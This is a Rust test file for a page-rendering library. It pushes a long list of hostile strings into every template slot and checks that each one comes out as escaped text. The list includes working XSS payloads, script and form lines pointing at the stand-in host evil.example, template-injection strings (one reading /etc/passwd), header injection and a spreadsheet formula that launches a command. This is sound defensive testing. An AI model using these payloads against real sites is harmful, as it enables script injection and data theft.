//! Hostile texts in every slot of every view struct come out as text.

use mainstay_pages::{Language, frame::Theme};
use scraper::{Html, Node};

use crate::{fixtures::Fill, markup::forbidden};

/// Payloads against HTML, attributes, templates, scripts that read attributes, and style sheets.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<dialog open>fake</dialog>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"position:fixed;inset:0;background:red\">",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</option></select><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "</dialog></body></html><script>alert(1)</script>",
    "</table><img src=x onerror=alert(1)>",
    "</pre><img src=x onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "--><script>alert(1)</script>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "x onmouseover=alert(1) y",
    "\" style=\"display:none",
    "\" hx-get=\"//evil.example\" hx-trigger=\"load",
    "\" data-hx-get=\"//evil.example",
    "<div hx-on:click=\"alert(1)\">",
    "<div hx-get=/sign-out hx-trigger=load>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "\" autofocus onfocus=\"alert(1)",
    "\" form=\"bulk\" name=\"move\" value=\"cancel",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% include \"/etc/passwd\" %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{time}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&quot; onmouseover=&quot;alert(1)",
    "&NewLine;&Tab;&colon;",
    "\u{2028}\u{2029}\u{feff}<b>",
    "\u{202e}txt.exe",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "\u{7f}\u{1}<b>\u{1b}[2J",
    "<\u{0}script>alert(1)",
    "＜script＞alert(1)＜/script＞",
    "=cmd|'/c calc'!A1",
];

/// The document as elements with the names of their attributes, and what is not text.
fn shape(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let shape = page.tree.nodes().filter_map(|node| match node.value() {
        Node::Element(element) => {
            let depth = node.ancestors().count();
            let mut names: Vec<&str> = element.attrs().map(|(name, _)| name).collect();
            names.sort_unstable();
            Some(format!("{depth} {} {names:?}", element.name()))
        }
        Node::Comment(_) => Some("comment".to_owned()),
        Node::ProcessingInstruction(_) => Some("instruction".to_owned()),
        _ => None,
    });
    shape.collect()
}

fn filled_with(text: &dyn Fn(&str) -> String) -> Vec<(&'static str, String)> {
    let fill = Fill { language: Language::English, theme: Theme::System, rows: 3, text, href: text };
    let mut pages = fill.pages();
    pages.push(("suggestions", fill.suggestions().render().expect("it renders")));
    pages
}

/// Long enough that a list cuts it and says the whole on hover.
fn padded(text: &str) -> String {
    format!("{text} in a text that is longer than a cell")
}

#[test]
fn hostile_texts_in_every_slot_change_no_element_and_no_attribute() {
    assert!(HOSTILE.len() >= 60);
    let harmless: Vec<_> =
        filled_with(&|_| padded("x")).into_iter().map(|(name, html)| (name, shape(&html))).collect();
    for hostile in HOSTILE {
        for ((name, html), (_, wanted)) in filled_with(&|_| padded(hostile)).iter().zip(&harmless) {
            let found = shape(html);
            let differs = found.iter().zip(wanted).find(|(found, wanted)| found != wanted);
            assert!(differs.is_none() && found.len() == wanted.len(), "{name} with {hostile:?}: {differs:?}");
            assert_eq!(
                forbidden(&Html::parse_document(html)),
                Vec::<String>::new(),
                "{name} with {hostile:?}"
            );
        }
    }
}

#[test]
fn a_text_is_shown_as_it_was_written() {
    let hostile = "<b>\"it's\"</b> & &amp; {{ x }}";
    for (name, html) in filled_with(&|_| hostile.to_owned()) {
        let page = Html::parse_document(&html);
        let shown =
            page.tree.nodes().any(|node| matches!(node.value(), Node::Text(text) if text.contains(hostile)));
        assert!(shown, "{name} shows it nowhere");
    }
}

#[test]
fn the_test_itself_sees_a_text_that_is_not_escaped() {
    assert_ne!(shape("<p>x</p>"), shape("<p><b>x</b></p>"));
    assert_ne!(shape("<p title=x></p>"), shape("<p title=x onclick=y></p>"));
}
